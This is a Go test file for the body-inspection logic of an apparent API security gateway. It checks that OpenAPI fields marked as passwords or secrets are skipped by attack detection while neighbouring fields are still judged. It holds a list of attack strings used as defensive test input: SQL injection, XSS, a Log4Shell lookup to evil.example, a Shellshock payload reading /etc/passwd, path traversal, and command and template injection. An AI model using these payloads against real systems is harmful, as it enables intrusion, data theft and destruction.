package inspect

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/config"
	"github.com/sallyport/sallyport/exchange"
	"github.com/sallyport/sallyport/openapi"
)

const accountSpec = `{"openapi":"3.1.0","info":{"title":"t","version":"1"},"paths":{"/orders":{"post":{
"requestBody":{"content":{
 "application/json":{"schema":{"$ref":"#/components/schemas/A"}},"application/x-www-form-urlencoded":{"schema":{"$ref":"#/components/schemas/A"}},
 "multipart/form-data":{"schema":{"$ref":"#/components/schemas/A"}},"application/xml":{"schema":{"$ref":"#/components/schemas/A"}}}},
"responses":{"204":{"description":"done"}}}}},
"components":{"schemas":{"A":{"type":"object","properties":{
 "name":{"type":"string"},"password":{"type":"string","format":"password"},"key":{"type":"string","x-sallyport":{"kind":"secret"}},
 "old":{"type":"array","items":{"type":"string","format":"password"}},
 "login":{"type":"object","properties":{"pin":{"type":"string","format":"password"},"hint":{"type":"string"}}}}}}}}`

// hostile are passwords that the rules take for attacks, or that are some.
var hostile = []string{
	sqli, "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "() { :; }; /bin/cat /etc/passwd",
	"x' OR 1=1--", "'; DROP TABLE users;--", "`id`;$(id)", "{{7*7}}#{7*7}", "javascript:alert(document.cookie)",
}

// account is an operation whose body has secrets, and the judge of it.
func account(t *testing.T, c config.Inspect) (*openapi.Operation, *judge) {
	t.Helper()
	doc, problems := openapi.Parse("account.json", []byte(accountSpec), openapi.Options{})
	if doc == nil {
		t.Fatal(problems)
	}
	return doc.Operations[0], testJudge(t, c)
}

func judgeAccount(t *testing.T, c config.Inspect, typ, body string) (bool, string) {
	t.Helper()
	op, j := account(t, c)
	e, err := readExchange(post(typ, body))
	if err != nil {
		t.Fatalf("%q: %v", body, err)
	}
	e.Operation, e.BodySpec = op, openapi.FindMedia(op.Body.Content, e.Body.Media().Type)
	if tree, err := e.Body.Tree(); err == nil {
		e.BodySpec.Type(tree)
	}
	v, err := j.body(t.Context(), e)
	if err != nil {
		t.Fatal(err)
	}
	return v.Passed(), fields(e)
}

// bodies spells fields in every type that has fields.
func bodies(pairs ...string) map[string]string {
	m, form := map[string]string{}, url.Values{}
	var parts, elements strings.Builder
	for i := 0; i < len(pairs); i += 2 {
		name, value := pairs[i], pairs[i+1]
		m[name] = value
		form.Set(name, value)
		fmt.Fprintf(&parts, "--b\r\nContent-Disposition: form-data; name=%q\r\n\r\n%s\r\n", name, value)
		escaped := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(value)
		fmt.Fprintf(&elements, "<%s>%s</%s>", name, escaped, name)
	}
	text, _ := json.Marshal(m) // strings always marshal
	return map[string]string{"application/json": string(text), "application/x-www-form-urlencoded": form.Encode(),
		"multipart/form-data; boundary=b": parts.String() + "--b--\r\n", "application/xml": "<A>" + elements.String() + "</A>"}
}

// What the spec calls a secret is not judged; whatever stands beside it is.
func TestSecretsAreSpared(t *testing.T) {
	for _, secret := range hostile {
		for _, field := range []string{"password", "key"} {
			for typ, body := range bodies("name", "Ann", field, secret) {
				if passed, found := judgeAccount(t, config.Inspect{}, typ, body); !passed || found != "" {
					t.Errorf("%s in %s: %s", secret, typ, found)
				}
			}
		}
	}
	for typ, body := range bodies("name", sqli, "password", "correct horse", "key", sqli) {
		if passed, found := judgeAccount(t, config.Inspect{}, typ, body); passed || strings.Contains(found, "body.key") {
			t.Errorf("beside a secret, in %s: passed %v, %s", typ, passed, found)
		}
	}
	for typ, body := range bodies("name", "Ann", "password", sqli) {
		if passed, _ := judgeAccount(t, config.Inspect{Secrets: "inspect"}, typ, body); passed {
			t.Errorf("secrets: inspect does not judge them in %s", typ)
		}
	}
}

// A secret is one by its place: deep, in lists, and nowhere else.
func TestSecretsByPlace(t *testing.T) {
	for body, want := range map[string]bool{
		`{"login":{"pin":%q}}`:              true,
		`{"login":{"hint":%q}}`:             false,
		`{"login":{"pin":"1","hint":%q}}`:   false,
		`{"old":["a",%q]}`:                  true,
		`{"pin":%q}`:                        false,
		`{"Password":%q}`:                   false,
		`{"name":{"password":%q}}`:          false,
		`{"password":{"password":%q}}`:      false,
		`{"password":[%q]}`:                 false,
		`{"login":{"pin":{"$value":%q}}}`:   false,
		`{"password":"x","passwords":%q}`:   false,
		`{"key":"x","old":["b"],"name":%q}`: false,
	} {
		if passed, found := judgeAccount(t, config.Inspect{}, "application/json", fmt.Sprintf(body, sqli)); passed != want {
			t.Errorf("%s: passed %v, want %v (%s)", body, passed, want, found)
		}
	}
	form := "old=" + url.QueryEscape(sqli) + "&name=x&old=" + url.QueryEscape(sqli)
	if passed, found := judgeAccount(t, config.Inspect{}, "application/x-www-form-urlencoded", form); !passed {
		t.Errorf("repeated secrets of a form: %s", found)
	}
	// Rules that read a form as a whole look at what is left of it.
	java := url.QueryEscape("java.lang.Runtime.getRuntime().exec(x)")
	if passed, _ := judgeAccount(t, config.Inspect{}, "application/x-www-form-urlencoded", "password=x&name="+java+"&key=y"); passed {
		t.Error("what stands between secrets is lost")
	}
}

func TestFormWithoutSecrets(t *testing.T) {
	op, _ := account(t, config.Inspect{})
	e, err := readExchange(post("application/x-www-form-urlencoded", "old=a%27&name=Ann+B&old=b&password=%3Cx%3E&key="))
	if err != nil {
		t.Fatal(err)
	}
	e.Operation, e.BodySpec = op, openapi.FindMedia(op.Body.Content, e.Body.Media().Type)
	tree, err := e.Body.Tree()
	if err != nil {
		t.Fatal(err)
	}
	e.BodySpec.Type(tree)
	if got, want := without(secrets(marks(e.JudgeBody())), e.Body.Bytes()), "old=&name=Ann+B&old=&password=&key="; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	form := e.BodySpec
	nested, err := readExchange(post("application/x-www-form-urlencoded", "name=x&login=%7B%22pin%22:%221%22,%22hint%22:%22h%22%7D&key=k"), form)
	if err != nil {
		t.Fatal(err)
	}
	nested.Operation, nested.BodySpec = op, form
	if got, want := without(secrets(marks(nested.JudgeBody())), nested.Body.Bytes()), "name=x&login=&key="; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	if v, err := (&judge{}).body(t.Context(), &exchange.Exchange{}); err != nil || !v.Passed() {
		t.Error("no body is nothing to judge")
	}
}
